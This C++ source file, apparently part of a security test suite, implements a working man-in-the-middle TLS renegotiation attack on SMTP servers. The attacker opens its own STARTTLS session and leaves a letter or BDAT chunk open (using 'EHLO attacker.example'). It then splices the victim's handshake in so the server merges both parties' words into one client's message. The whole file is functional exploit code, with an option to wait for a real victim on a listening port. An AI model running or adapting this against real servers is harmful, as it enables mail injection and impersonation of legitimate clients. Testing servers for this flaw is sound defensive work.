// The man in the middle: a TLS session of his own with the server, into which he splices the victim's.
#include <atomic>
#include <memory>
#include <string>
#include <thread>

#include "tests/attacks/renegotiation/handshake.h"
#include "tests/attacks/renegotiation/story.h"

namespace attack {

namespace {

constexpr std::chrono::seconds kLongestHold{30};  // for a victim, with a session open to the server

std::string first_line(const std::string& text) { return text.substr(0, text.find('\n')); }

// The server's side of the play.
class Upstream {
 public:
  explicit Upstream(const Options& options)
      : options_(options), socket_(Socket::connect(options.host, options.port, options.patience)) {}

  // Up to TLS with the server. Throws Gone where it does not take us for a client.
  void begin(bool signals) {
    if (!options_.wrapped) {
      greeting_ = socket_.reply();
      features_ = socket_.ask("EHLO attacker.example");
      if (features_.find("STARTTLS") == std::string::npos) throw Unable("the server does not offer STARTTLS");
      ready_ = socket_.ask("STARTTLS");
      if (ready_.substr(0, 3) != "220") throw Unable("STARTTLS: " + ready_);
    }
    shake_hands(records_, {signals, ""});
    if (options_.wrapped) greeting_ = channel_.reply();
  }

  // The attacker's own beginning, which is to swallow what the victim says first. A server that refuses some of it may
  // still join what follows.
  void say_prefix(std::size_t victims_first_line) {
    const std::string features = channel_.ask("EHLO attacker.example");
    if (options_.chunk && features.find("CHUNKING") == std::string::npos) {
      throw Unable("the server does not offer CHUNKING");
    }
    if (!takes("MAIL FROM:<" + options_.sender + ">") || !takes("RCPT TO:<" + options_.recipient + ">"))
      return;
    const std::string letter = "From: <" + options_.sender + ">\r\nSubject: what the victim says\r\n\r\n";
    if (options_.chunk) {
      const std::string size = std::to_string(letter.size() + victims_first_line);
      channel_.write("BDAT " + size + " LAST\r\n" + letter);
      tell(kAttacker, "leaves a chunk open, as long as the victim's EHLO");
    } else if (takes("DATA")) {
      channel_.write(letter);
      tell(kAttacker, "leaves a letter open");
    }
  }

  Records& records() { return records_; }
  const std::string& greeting() const { return greeting_; }
  const std::string& features() const { return features_; }
  const std::string& ready() const { return ready_; }

 private:
  bool takes(const std::string& line) {
    const std::string reply = channel_.ask(line);
    tell(kAttacker, line + " -- " + first_line(reply));
    return reply[0] == '2' || reply[0] == '3';
  }

  const Options& options_;
  Socket socket_;
  Records records_{socket_};
  TlsChannel channel_{records_};
  std::string greeting_, features_, ready_;
};

// Two directions, each with one turning point: before ChangeCipherSpec the attacker's keys are around what the victim and
// the server say to each other, after it they have keys of their own, and he passes on what he cannot read.
class Splice {
 public:
  Splice(Socket& victim, Records& server) : victim_(victim), server_(server) {}

  Outcome run() {
    std::thread there([this] { until_the_end(&Splice::to_server); });
    until_the_end(&Splice::to_victim);
    there.join();
    return joined_ ? kSucceeded : kFailed;
  }

 private:
  void until_the_end(void (Splice::*direction)()) {
    try {
      for (;;) (this->*direction)();
    } catch (const Gone& error) {
      if (!over_.exchange(true)) tell(kAttacker, std::string("the connection is over: ") + error.what());
    }
    victim_.socket().end();
    server_.socket().end();
  }

  void to_server() {
    const Record record = victim_.read_raw();
    if (!server_.writes) return server_.write_raw(record);
    if (record.type == kAlert) tell(kAttacker, "from the victim, " + alert_text(record));
    server_.write(record.type, record.body);
    if (record.type == kChangeCipher) server_.writes.reset();
  }

  void to_victim() {
    const Record record = server_.read();
    if (server_.reads && record.type == kAlert) tell(kAttacker, "from the server, " + alert_text(record));
    const bool is_turning = record.type == kChangeCipher && server_.reads;
    // The server talks to the victim, in a session that the attacker has begun.
    if (!server_.reads && record.type == kData && !joined_) {
      joined_ = true;
      tell(kAttacker, "the server takes my words and the victim's for those of one client");
    }
    victim_.write_raw(record);
    if (is_turning) server_.reads.reset();
  }

  Records victim_;
  Records& server_;
  std::atomic<bool> joined_{false}, over_{false};
};

// What reply() has read, as it was sent.
std::string on_the_wire(std::string text) {
  for (std::size_t at = 0; (at = text.find('\n', at)) != std::string::npos; at += 2) text.insert(at, "\r");
  return text + "\r\n";
}

// A client that knows nothing of RFC 5746, or one that says it does: to the server it is all the same who attacks.
std::unique_ptr<Upstream> meet(const Options& options) {
  try {
    auto made = std::make_unique<Upstream>(options);
    made->begin(false);
    tell(kAttacker, "has TLS with the server");
    return made;
  } catch (const Gone& error) {
    tell(kAttacker, std::string("without RFC 5746 there is no TLS with this server: ") + error.what());
  }
  try {
    auto made = std::make_unique<Upstream>(options);
    made->begin(true);
    tell(kAttacker, "has TLS with the server, as a client that knows of RFC 5746");
    return made;
  } catch (const Gone& error) {
    throw Unable(std::string("no TLS with the server: ") + error.what());
  }
}

// The victim hears the server's own words, up to where TLS is to begin; then it is held until the prefix is said.
void hold(Socket& victim, Upstream& upstream, const Options& options) {
  if (options.wrapped) return upstream.say_prefix(0);
  victim.write(on_the_wire(upstream.greeting()));
  const std::string hello = victim.line();
  victim.write(on_the_wire(upstream.features()));
  const std::string next = victim.line();
  tell(kAttacker, "from the victim, " + hello + ", " + next);
  if (next != "STARTTLS") throw Unable("the victim does not ask for TLS");
  upstream.say_prefix(hello.size() + 2);
  victim.write(on_the_wire(upstream.ready()));
}

void play_victim(Options options, std::uint16_t port) {
  options.host = "127.0.0.1";
  options.port = port;
  options.eager = !options.chunk;
  try {
    be_victim(options);
    tell("victim", "all is well");
  } catch (const std::exception& error) {
    tell("victim", std::string("has not sent its letter: ") + error.what());
  }
}

}  // namespace

Outcome attack(const Options& options) {
  if (options.chunk && options.wrapped) throw Unable("a victim that waits for a greeting will wait for ever");
  const auto upstream = meet(options);
  const Listener listener(options.listen);
  tell(kAttacker, "waits for the victim on port " + std::to_string(listener.port()));
  std::jthread own;  // ends after its connection does
  if (!options.listens) own = std::jthread(play_victim, options, listener.port());
  listener.limit(kLongestHold);
  Socket victim = listener.accept(options.patience);
  hold(victim, *upstream, options);
  tell(kAttacker, "splices the victim's handshake into his own session");
  return Splice(victim, upstream->records()).run();
}

}  // namespace attack
